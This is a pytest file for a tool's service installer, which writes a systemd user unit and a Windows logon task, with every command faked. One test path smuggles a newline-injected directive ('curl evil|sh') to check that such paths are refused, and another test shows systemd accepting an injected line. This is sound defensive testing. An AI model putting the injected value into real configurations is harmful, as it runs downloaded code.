"""`rigscope service`: the systemd user unit and the Windows logon task, with every command faked."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections.abc import Sequence
from pathlib import Path

import pytest

from desktop import service
from desktop.cli import main as cli_main
from desktop.errors import UserError
from desktop.paths import default_db_path
from tests.integration.tools import require_tool


class FakeRunner:
    """Records commands; answers per command prefix (each word may be a word's prefix), else exit 0."""

    def __init__(self, answers: dict[tuple[str, ...], tuple[int, str, str]] | None = None) -> None:
        self.answers = answers or {}
        self.calls: list[list[str]] = []

    def __call__(self, command: Sequence[str]) -> subprocess.CompletedProcess[str]:
        self.calls.append(list(command))
        for prefix, (code, out, err) in self.answers.items():
            if len(command) >= len(prefix) and all(w.startswith(p) for w, p in zip(command, prefix, strict=False)):
                return subprocess.CompletedProcess(list(command), code, out, err)
        return subprocess.CompletedProcess(list(command), 0, "", "")


@pytest.fixture
def unit_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "systemd-user"
    monkeypatch.setenv("RIGSCOPE_SYSTEMD_USER_DIR", str(path))
    return path


@pytest.fixture
def with_systemctl(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("desktop.service.shutil.which", lambda name: f"/usr/bin/{name}")


@pytest.fixture
def without_systemctl(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("desktop.service.shutil.which", lambda name: None)


def test_recorder_command_uses_this_installation() -> None:
    assert service.recorder_command(frozen=False, executable="/venv/bin/python") == [
        "/venv/bin/python", "-m", "desktop", "record"]
    assert service.recorder_command(frozen=True, executable="/opt/rigscope/rigscope") == [
        "/opt/rigscope/rigscope", "record"]


def test_unit_quotes_paths_with_blanks_and_escapes_specifiers() -> None:
    text = service.render_unit(["/home/a b/50%/python", "-m", "desktop", "record"])
    assert 'ExecStart="/home/a b/50%%/python" -m desktop record\n' in text
    assert "WantedBy=default.target" in text


def test_the_installed_unit_is_the_shipped_template_with_its_command(repo_root: Path) -> None:
    """The shipped unit is the template `service install` fills in: only its ExecStart line differs."""
    shipped = (repo_root / "packaging/systemd/rigscope-recorder.service").read_text().splitlines()
    rendered = service.render_unit(["/venv/bin/python", "-m", "desktop", "record"]).splitlines()
    assert [(a, b) for a, b in zip(shipped, rendered, strict=True) if a != b] == [
        (f"ExecStart={service.TEMPLATE_EXEC}", "ExecStart=/venv/bin/python -m desktop record")]


def test_linux_install_writes_the_unit_and_enables_it(unit_dir: Path, with_systemctl: None) -> None:
    runner = FakeRunner()
    result = service.install(runner, system="linux")
    unit = unit_dir / service.UNIT_NAME
    assert result.ok and unit.read_text() == service.render_unit(service.recorder_command(db_path=default_db_path()))
    assert ["systemctl", "--user", "daemon-reload"] in runner.calls
    assert ["systemctl", "--user", "enable", "--now", service.UNIT_NAME] in runner.calls
    assert result.status.installed and result.status.enabled and result.status.active


def test_linux_install_without_systemctl_says_what_to_run(unit_dir: Path, without_systemctl: None) -> None:
    runner = FakeRunner()
    with pytest.raises(UserError, match=f"systemctl --user enable --now {service.UNIT_NAME}"):
        service.install(runner, system="linux")
    assert (unit_dir / service.UNIT_NAME).exists()  # written, for the user to enable
    assert runner.calls == []
    state = service.status(runner, system="linux")
    assert state.installed and state.enabled is None and state.active is None


def test_linux_install_without_a_user_manager_says_what_to_run(unit_dir: Path, with_systemctl: None) -> None:
    runner = FakeRunner({("systemctl", "--user", "show-environment"): (1, "", "Failed to connect to bus")})
    with pytest.raises(UserError, match="in your desktop session run"):
        service.install(runner, system="linux")
    assert not any("enable" in call for call in runner.calls)


def test_linux_enable_failure_is_reported(unit_dir: Path, with_systemctl: None) -> None:
    runner = FakeRunner({("systemctl", "--user", "enable"): (1, "", "Unit is masked."),
                         ("systemctl", "--user", "is-"): (1, "", "")})
    with pytest.raises(UserError, match=r"enabling it failed: Unit is masked\."):
        service.install(runner, system="linux")


def test_linux_uninstall_disables_and_removes(unit_dir: Path, with_systemctl: None) -> None:
    service.install(FakeRunner(), system="linux")
    runner = FakeRunner({("systemctl", "--user", "is-"): (1, "", "")})
    result = service.uninstall(runner, system="linux")
    assert result.ok and not (unit_dir / service.UNIT_NAME).exists()
    assert ["systemctl", "--user", "disable", "--now", service.UNIT_NAME] in runner.calls
    assert not result.status.installed and result.status.enabled is False
    assert service.uninstall(runner, system="linux").message == "Nothing was installed."


def test_unwritable_unit_dir_is_a_user_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                             without_systemctl: None) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("")
    monkeypatch.setenv("RIGSCOPE_SYSTEMD_USER_DIR", str(blocker / "sub"))
    with pytest.raises(UserError, match="cannot write the systemd unit"):
        service.install(FakeRunner(), system="linux")


TASK_NS = {"t": "http://schemas.microsoft.com/windows/2004/02/mit/task"}


def test_windows_logon_task_definition() -> None:
    command = [r"C:\Program Files\R&D\pythonw.exe", "-m", "desktop", "record"]
    xml = service.task_xml(command, r"WORK\ada")
    root = ET.fromstring(xml.encode("utf-16"))
    def text(path: str) -> str | None:
        return root.findtext(path, namespaces=TASK_NS)
    assert text("t:Actions/t:Exec/t:Command") == command[0]
    assert text("t:Actions/t:Exec/t:Arguments") == "-m desktop record"
    # This user's logon only (no elevation needed), never stopped after 72 h, runs on battery.
    assert text("t:Triggers/t:LogonTrigger/t:UserId") == r"WORK\ada"
    assert text("t:Principals/t:Principal/t:RunLevel") == "LeastPrivilege"
    assert text("t:Settings/t:ExecutionTimeLimit") == "PT0S"
    assert text("t:Settings/t:DisallowStartIfOnBatteries") == "false"
    assert service.schtasks_create_command(Path("C:/t/task.xml")) == [
        "schtasks", "/Create", "/TN", "Rigscope recorder", "/XML", str(Path("C:/t/task.xml")), "/F"]


def test_windows_user(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("USERNAME", "ada")
    monkeypatch.setenv("USERDOMAIN", "WORK")
    assert service.windows_user() == r"WORK\ada"
    monkeypatch.delenv("USERDOMAIN")
    assert service.windows_user() == "ada"


def test_windows_install_runs_and_reports(monkeypatch: pytest.MonkeyPatch) -> None:
    runner = FakeRunner({("schtasks", "/Query"): (0, "Status: Running\nScheduled Task State: Enabled\n", "")})
    seen: list[str] = []

    def capture(command: Sequence[str]) -> subprocess.CompletedProcess[str]:
        if command[:2] == ["schtasks", "/Create"]:  # the XML file exists while schtasks reads it
            seen.append(Path(command[5]).read_text(encoding="utf-16"))
        return runner(command)

    result = service.install(capture, system="win32")
    assert result.ok and runner.calls[0][:2] == ["schtasks", "/Create"]
    assert "<ExecutionTimeLimit>PT0S</ExecutionTimeLimit>" in seen[0] and "-m desktop record" in seen[0]
    assert not Path(runner.calls[0][5]).exists()  # the temporary file is gone
    assert ["schtasks", "/Run", "/TN", service.TASK_NAME] in runner.calls
    assert result.status.installed and result.status.enabled and result.status.active


def test_windows_access_denied_points_to_the_docs() -> None:
    runner = FakeRunner({("schtasks", "/Create"): (1, "", "ERROR: Access is denied."),
                         ("schtasks", "/Query"): (1, "", "ERROR: The system cannot find the file specified.")})
    with pytest.raises(UserError, match=r"Access is denied\..*elevated prompt.*docs/windows\.md"):
        service.install(runner, system="win32")
    assert not service.status(runner, system="win32").installed


def test_windows_uninstall_deletes_the_task() -> None:
    runner = FakeRunner({("schtasks", "/Query"): (1, "", "")})
    result = service.uninstall(runner, system="win32")
    assert ["schtasks", "/Delete", "/TN", service.TASK_NAME, "/F"] in runner.calls
    assert result.ok and not result.status.installed


def test_other_platforms_are_a_user_error() -> None:
    with pytest.raises(UserError, match=r"Linux \(systemd\) and Windows"):
        service.status(FakeRunner(), system="darwin")


def test_cli_status_json(unit_dir: Path, without_systemctl: None, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli_main(["service", "status", "--json"]) == 0
    state = json.loads(capsys.readouterr().out)
    assert state["manager"] == "systemd" and state["installed"] is False
    assert state["location"] == str(unit_dir / service.UNIT_NAME)


def test_cli_install_then_uninstall(unit_dir: Path, with_systemctl: None, monkeypatch: pytest.MonkeyPatch,
                                    capsys: pytest.CaptureFixture[str]) -> None:
    runner = FakeRunner()
    monkeypatch.setattr(service, "run_command", runner)
    assert cli_main(["service", "install"]) == 0
    assert "runs now and at every login" in capsys.readouterr().out
    assert (unit_dir / service.UNIT_NAME).exists()
    assert cli_main(["service", "uninstall", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["status"]["installed"] is False
    assert not (unit_dir / service.UNIT_NAME).exists()


def test_cli_install_without_systemctl_exits_8_with_the_command(unit_dir: Path, without_systemctl: None,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    """Written but not enabled: done in part (8), not the usage-error code (2) it exited with."""
    assert cli_main(["service", "install"]) == 8
    assert (unit_dir / service.UNIT_NAME).exists()
    err = capsys.readouterr().err
    assert err.startswith("rigscope service: Wrote ") and "systemctl --user daemon-reload" in err


# --- issue 12 item 11: paths systemd cannot say, and the database the unit records to ----------


@pytest.mark.parametrize(("path", "named"), [
    ("/home/u/venv\nExecStartPre=/bin/sh -c 'curl evil|sh'\n/python", r"a line break (\n)"),
    ("/home/u/venv\r/python", r"a carriage return (\r)"),
    ("/home/u/ve\x1bnv/python", r"a control character (\x1b)"),
    ("/home/u/$HOME/python", "'$'"),
    ("/home/u/it's/python", "\"'\" (systemd refuses it"),
    ("/home/u/a\\b/python", "'\\\\' (systemd refuses it"),
    ("/home/u/v\udcffenv/python", "not valid UTF-8"),
])
def test_an_executable_path_systemd_cannot_say_is_refused(path: str, named: str) -> None:
    with pytest.raises(UserError, match=re.escape(named)):
        service.render_unit([path, "-m", "desktop", "record"])


def test_install_refuses_a_venv_path_with_a_newline_and_writes_nothing(
        unit_dir: Path, with_systemctl: None, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    runner = FakeRunner()
    monkeypatch.setattr(service, "run_command", runner)
    monkeypatch.setattr(service.sys, "executable", "/home/u/x\nExecStartPre=/bin/true\n/bin/python")
    assert cli_main(["service", "install"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("rigscope service: ") and r"a line break (\n)" in err and "Traceback" not in err
    assert not (unit_dir / service.UNIT_NAME).exists()
    assert runner.calls == []


def test_a_database_path_with_a_newline_is_refused(unit_dir: Path, with_systemctl: None,
                                                   tmp_path: Path) -> None:
    with pytest.raises(UserError, match=re.escape(r"a line break (\n)")):
        service.install(FakeRunner(), system="linux", db_path=tmp_path / "a\nb.sqlite")
    assert not (unit_dir / service.UNIT_NAME).exists()


def test_the_unit_records_to_the_database_given_at_install(unit_dir: Path, with_systemctl: None,
                                                           tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    runner = FakeRunner()
    monkeypatch.setattr(service, "run_command", runner)
    monkeypatch.chdir(tmp_path)
    assert cli_main(["service", "install", "--db", "rel dir/$h%.sqlite"]) == 0
    text = (unit_dir / service.UNIT_NAME).read_text()
    wanted = str(tmp_path / "rel dir" / "$h%.sqlite").replace("$", "$$").replace("%", "%%")
    assert f' record --db "{wanted}"\n' in text


def test_without_db_the_unit_names_the_data_folder_of_the_installer(unit_dir: Path, with_systemctl: None) -> None:
    """The recorder under systemd may not see RIGSCOPE_DATA_DIR or XDG_DATA_HOME of the shell that installed it."""
    service.install(FakeRunner(), system="linux")
    text = (unit_dir / service.UNIT_NAME).read_text()
    assert f" record --db {default_db_path()}\n" in text


def test_the_windows_task_records_to_the_database_given_at_install(tmp_path: Path) -> None:
    runner = FakeRunner({("schtasks", "/Query"): (1, "", "")})
    seen: list[str] = []

    def capture(command: Sequence[str]) -> subprocess.CompletedProcess[str]:
        if command[:2] == ["schtasks", "/Create"]:
            seen.append(Path(command[5]).read_text(encoding="utf-16"))
        return runner(command)

    service.install(capture, system="win32", db_path=tmp_path / "my db.sqlite")
    assert f'record --db "{tmp_path / "my db.sqlite"}"</Arguments>' in seen[0]


def _verify(unit: Path, tmp_path: Path) -> subprocess.CompletedProcess[str]:
    tool = require_tool("systemd-analyze", "systemd")
    runtime = tmp_path / "runtime"
    runtime.mkdir(mode=0o700, exist_ok=True)
    return subprocess.run([tool, "--user", "verify", str(unit)], capture_output=True, text=True, check=False,
                          env={**os.environ, "XDG_RUNTIME_DIR": str(runtime)}, cwd=tmp_path)


@pytest.mark.skipif(sys.platform != "linux", reason="systemd")
def test_awkward_but_sayable_paths_verify(tmp_path: Path) -> None:
    """Blanks, % and non-ASCII in the program, and also quotes, backslashes and $ in the database path,
    are quoted so that systemd-analyze accepts the unit."""
    folder = tmp_path / "my venv 50% é"
    folder.mkdir()
    python = folder / "python"
    python.write_text("#!/bin/sh\nexit 0\n")
    python.chmod(0o755)
    unit = tmp_path / service.UNIT_NAME
    unit.write_text(service.render_unit(service.recorder_command(
        frozen=False, executable=str(python), db_path=tmp_path / "a $b 50% \"c\" 'd' \\e.sqlite")))
    result = _verify(unit, tmp_path)
    assert result.returncode == 0 and result.stdout + result.stderr == "", result.stdout + result.stderr


@pytest.mark.skipif(sys.platform != "linux", reason="systemd")
def test_an_injected_directive_was_accepted_by_systemd(tmp_path: Path) -> None:
    """Why a newline must be refused, not quoted: the old renderer's output passes verify with an extra line."""
    python = tmp_path / "python"
    python.write_text("#!/bin/sh\nexit 0\n")
    python.chmod(0o755)
    injected = f"{python}\nExecStartPre={python}"
    unit = tmp_path / service.UNIT_NAME
    unit.write_text(service.render_unit([str(python), "record"]).replace(
        f"ExecStart={python}", f"ExecStart={injected}"))
    assert _verify(unit, tmp_path).returncode == 0
    with pytest.raises(UserError):
        service.render_unit([injected, "record"])


def test_status_shows_the_installed_command_and_its_database(unit_dir: Path, with_systemctl: None, tmp_path: Path,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "my 50% history.sqlite"  # a blank and a specifier: quoted and escaped in the unit
    runner = FakeRunner()
    service.install(runner, system="linux", db_path=db)
    state = service.status(runner, system="linux")
    assert state.command[-2:] == ["--db", str(db)] and service.recorded_db(state.command) == str(db)
    # The status tells what is installed, not what installing now would write (the default database).
    assert service.recorder_command() != state.command
    assert service.unit_command(service.render_unit(["/usr/bin/rigscope", "record"])) == ["/usr/bin/rigscope",
                                                                                            "record"]
    assert service.recorded_db(["/usr/bin/rigscope", "record"]) is None


def test_cli_status_names_the_installed_database(unit_dir: Path, without_systemctl: None, tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "elsewhere.sqlite"
    (unit_dir).mkdir(parents=True, exist_ok=True)
    (unit_dir / service.UNIT_NAME).write_text(service.render_unit(service.recorder_command(db_path=db)))
    assert cli_main(["service", "status"]) == 0
    assert f"history database: {db}" in capsys.readouterr().out


def test_cli_status_says_the_gpu_is_not_recorded_while_the_recorder_has_no_driver(
        unit_dir: Path, without_systemctl: None, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Issue 32: the service records the host only while NVML cannot be used; its status says so, with the reason,
    until the recorder stores that the GPU is back."""
    from desktop.history.store import HistoryStore

    db = tmp_path / "history.sqlite"
    unit_dir.mkdir(parents=True, exist_ok=True)
    (unit_dir / service.UNIT_NAME).write_text(service.render_unit(service.recorder_command(db_path=db)))
    with HistoryStore.open(db) as store:  # what the recorder stores (desktop/telemetry/no_gpu.py's SourceWatch)
        store.add_event(1_800_000_000.0, "gpu_unavailable", None, "Driver/library version mismatch: reboot.")
    assert cli_main(["service", "status"]) == 0
    line = next(x for x in capsys.readouterr().out.splitlines() if x.startswith("GPU:"))
    assert "not recorded since" in line and "(the host only): Driver/library version mismatch: reboot;" in line
    with HistoryStore.open(db) as store:
        store.add_event(1_800_000_600.0, "gpu_available", None, "NVML answers again: NVML 570.86.16")
    assert cli_main(["service", "status"]) == 0
    assert "GPU:" not in capsys.readouterr().out
